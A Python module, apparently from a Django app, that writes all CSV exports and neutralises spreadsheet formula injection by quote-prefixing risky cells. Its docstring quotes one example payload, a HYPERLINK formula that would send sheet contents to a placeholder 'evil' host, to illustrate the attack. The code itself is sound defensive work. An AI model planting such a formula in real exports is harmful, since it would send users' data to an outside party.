"""The one CSV writer of every export: no cell a person opens in a spreadsheet can run as a formula.

CSV injection (OWASP "CSV Injection"): a spreadsheet evaluates a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, in some, one that starts with a tab or a carriage return), so a customer
named ``=HYPERLINK("http://evil/?x="&A1,"click")`` becomes a live link that sends the sheet away.
OWASP's remedy, applied here to every text cell:

- a text that starts with one of those characters gets a leading single quote (``'=HYPERLINK…``),
  which spreadsheets show as text; a text that itself starts with a quote gets one too, so a reader
  that strips one leading quote (``audit_verify`` does) always gets the original back;
- every text cell is wrapped in double quotes, with inner double quotes doubled.

Numbers are the exception: an ``int``, ``float`` or ``Decimal`` we computed is written bare and
never prefixed, so a refund of -5.00 stays a number a sheet can add up. A *text* that looks like a
number ("-2+3", "-5" typed into a name field) is text and is neutralised like any other. Exports
therefore pass amounts as numbers (``rupees`` turns paise into a two-place ``Decimal``), never as
pre-formatted strings.

Nothing else in the project may call ``csv.writer``/``csv.DictWriter``
(``suresh_ai/tests/test_csvfile.py`` checks every module).
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

from django.http import HttpResponse

# The first characters that make a spreadsheet read a cell as a formula (OWASP), and the quote
# itself so that the one we add can always be told apart and stripped.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "'")

Number = int | float | Decimal


class _Echo:
    """A file-like object whose write returns the line, so a csv writer can feed a stream."""

    def write(self, value: str) -> str:
        return value


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet will show it, never evaluate it."""
    return "'" + text if text.startswith(FORMULA_START) else text


def cell(value: Any) -> str | Number:
    """One value as written: numbers as they are, ``None`` as empty, dates in ISO 8601, anything
    else as neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):  # an int to Python, a word to a reader
        return "true" if value else "false"
    if isinstance(value, int | float | Decimal):
        return value
    if isinstance(value, datetime | date):
        return value.isoformat()
    return neutralise(str(value))


def _writer() -> Any:
    # Text cells quoted, numbers bare: QUOTE_NONNUMERIC does exactly that for the values cell() returns.
    return csv.writer(_Echo(), quoting=csv.QUOTE_NONNUMERIC)


def csv_line(values: Iterable[Any]) -> str:
    """One row as a CSV line (ending in CRLF, as RFC 4180 has it)."""
    return str(_writer().writerow([cell(v) for v in values]))


def csv_lines(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The header and then each row, one line at a time (for a streamed response)."""
    writer = _writer()
    yield writer.writerow([cell(v) for v in header])
    for row in rows:
        yield writer.writerow([cell(v) for v in row])


def csv_text(header: Sequence[str], rows: Iterable[Iterable[Any]]) -> str:
    return "".join(csv_lines(header, rows))


def csv_response(text: str, filename: str) -> HttpResponse:
    """A CSV download (``text`` from csv_text) named ``filename``."""
    response = HttpResponse(text, content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response


def rupees(paise: float) -> Decimal:
    """An amount in paise as rupees with two places (12345 -> 123.45, -500 -> -5.00), a number;
    a fractional amount (a share of a conversion's revenue) is rounded to the paisa."""
    if isinstance(paise, int):
        return Decimal(paise).scaleb(-2)
    return Decimal(f"{paise / 100:.2f}")


def fixed(value: float | None, places: int) -> Decimal | None:
    """A computed ratio rounded to ``places`` decimals and written with all of them (0.5 -> 0.5000);
    None (not defined) stays None, an empty cell."""
    return None if value is None else Decimal(f"{value:.{places}f}")
